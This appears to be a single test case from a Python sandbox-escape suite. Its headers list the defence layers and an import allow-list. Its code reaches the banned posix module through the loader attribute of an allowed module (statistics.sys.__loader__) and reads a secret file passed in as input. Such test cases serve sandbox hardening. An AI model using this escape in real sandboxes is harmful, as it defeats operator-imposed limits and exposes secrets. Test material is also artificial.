# class: import machinery
# technique: a loader object
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import statistics
reached = statistics.sys.__loader__.load_module("posix")
return [{"json": {"reached": reached.read(reached.open(host["secret"], 0), 4096).decode()}}]
